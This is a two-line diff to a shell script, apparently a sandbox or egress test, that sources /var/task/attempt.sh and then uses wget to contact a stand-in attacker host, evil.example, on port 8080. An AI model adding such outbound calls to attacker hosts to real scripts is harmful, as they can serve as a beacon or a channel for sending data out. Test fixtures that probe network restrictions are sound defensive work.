@@ -1,0 +1,2 @@
+. /var/task/attempt.sh
+wget -T 1 -t 1 -O /dev/null http://evil.example:8080/
